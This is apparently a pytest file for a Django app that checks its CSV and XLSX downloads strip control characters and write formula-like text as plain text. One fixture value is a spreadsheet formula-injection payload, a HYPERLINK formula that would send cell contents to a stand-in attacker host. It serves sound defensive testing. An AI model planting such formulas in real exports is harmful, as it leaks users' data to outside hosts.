"""Downloads that cannot break and cannot attack (issue 12): every cell of every XLSX and
CSV we write goes through cultuurregio.cells. Word's Shift+Enter (a vertical tab) in an
action or a report no longer breaks a published version's XLSX for good, and a text that
starts like a formula is written as text, never as a formula."""

import csv
import io
from types import SimpleNamespace

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from acties.models import Voortgangsrapport
from beleidsplan.services import publish_version
from cultuurregio.cells import cell_value, clean_text, starts_formula
from cultuurregio.spreadsheets import TextWidget

from .factories import make_actie, make_od, make_plan, make_sd
from .test_progress_rollup import make_rapport

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1;"Klik hier")'
WORD_TEXT = "Eerste regel\x0bTweede regel"


@pytest.fixture
def site(coordinator):
    plan = make_plan(titel="Plan met lastige tekst", van_jaar=2020, tot_jaar=2025)
    sd = make_sd(plan, HYPERLINK)
    od = make_od(sd, "  +SOM(1;2)")
    actie = make_actie(od, WORD_TEXT, regierol="=1+1", actorrol="\t@SUM(A1)")
    make_rapport(
        actie, 2021, status=Voortgangsrapport.Status.LOPEND, percentage=50,
        wat_gedaan="Gedaan\x0bmet -2 vrijwilligers\x01", links="https://example.org",
    )
    versie = publish_version(plan=plan, naam="Versie 1", user=coordinator)
    return SimpleNamespace(plan=plan, actie=actie, versie=versie)


def workbook_cells(response):
    assert response.status_code == 200, response.status_code
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def assert_no_formula_and_no_control(cells):
    assert cells, "an empty workbook proves nothing"
    for cell in cells:
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            assert clean_text(cell.value) == cell.value, (cell.coordinate, cell.value)


# --- The cleaning step itself ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a\x0bb", "a\nb"),  # Word's Shift+Enter: a line break
        ("a\x0cb", "a\nb"),  # form feed: a line break
        ("a\x00b\x1fc\x7f", "abc"),  # other control characters go
        ("tab\there\nline\r\n", "tab\there\nline\r\n"),  # these stay
        ("=1+1", "'=1+1"),
        ("+32 2 123 45 67", "'+32 2 123 45 67"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("   =1+1", "'   =1+1"),
        ("\t=1+1", "'\t=1+1"),
        ("a=1", "a=1"),
        ("Gewoon tekst", "Gewoon tekst"),
    ],
)
def test_cell_value_cleans_and_neutralises(text, expected):
    assert cell_value(text) == expected


def test_numbers_dates_and_empty_cells_are_left_alone():
    assert cell_value(-5) == -5
    assert cell_value(None) is None
    assert not starts_formula("Tekst met = in het midden")


def test_an_exported_formula_text_imports_as_it_was_typed():
    assert TextWidget().clean("'=1+1") == "=1+1"
    assert TextWidget().clean("'gewoon") == "'gewoon"


# --- Site downloads of a published version and of the working state -------------------------


def test_published_version_xlsx_with_word_and_formula_text_downloads(coordinator_client, site):
    response = coordinator_client.get(reverse("plan:versie_xlsx", args=[site.plan.pk, 1]))

    cells = workbook_cells(response)
    assert_no_formula_and_no_control(cells)
    values = [cell.value for cell in cells]
    assert "Eerste regel\nTweede regel" in values
    assert HYPERLINK in values and "=1+1" in values and "  +SOM(1;2)" in values
    formula_like = [cell for cell in cells if cell.value in (HYPERLINK, "=1+1")]
    assert all(cell.quotePrefix for cell in formula_like)


def test_published_version_csv_writes_formulas_as_text(coordinator_client, site):
    response = coordinator_client.get(reverse("plan:versie_csv", args=[site.plan.pk, 1]))

    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    values = [value for row in rows[1:] for value in row]
    assert "'" + HYPERLINK in values
    assert "'=1+1" in values and "'\t@SUM(A1)" in values
    assert "Eerste regel\nTweede regel" in values
    assert not any(value.lstrip(" \t").startswith(("=", "+", "@")) for value in values)
    assert "\x0b" not in response.content.decode("utf-8-sig")


def test_working_state_xlsx_downloads_too(coordinator_client, site):
    response = coordinator_client.get(reverse("plan:werk_xlsx", args=[site.plan.pk]))

    assert_no_formula_and_no_control(workbook_cells(response))


def test_annual_report_xlsx_with_word_and_formula_text_downloads(coordinator_client, site):
    response = coordinator_client.get(reverse("plan:jaarverslag_xlsx", args=[site.plan.pk, 2021]))

    cells = workbook_cells(response)
    assert_no_formula_and_no_control(cells)
    values = [cell.value for cell in cells]
    assert HYPERLINK in values
    assert "2021: Gedaan\nmet -2 vrijwilligers" in values


# --- The admin's exports (django-import-export) ---------------------------------------------

XLSX, CSV = "0", "1"  # positions of the formats in the export form
FIELDS = {f"actieresource_{name}": "on" for name in ("id", "omschrijving", "regierol")}


def test_admin_csv_export_writes_formulas_as_text(coordinator_client, site):
    response = coordinator_client.post(
        reverse("admin:acties_actie_export"), {"resource": "0", "format": CSV, **FIELDS}
    )

    assert response.status_code == 200
    (row,) = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert row["Omschrijving"] == "Eerste regel\nTweede regel"
    assert row["Regierol"] == "'=1+1"


def test_admin_xlsx_export_with_a_control_character_works(coordinator_client, site):
    response = coordinator_client.post(
        reverse("admin:acties_actie_export"), {"resource": "0", "format": XLSX, **FIELDS}
    )

    cells = workbook_cells(response)
    assert_no_formula_and_no_control(cells)
    values = [cell.value for cell in cells]
    assert "Eerste regel\nTweede regel" in values and "'=1+1" in values
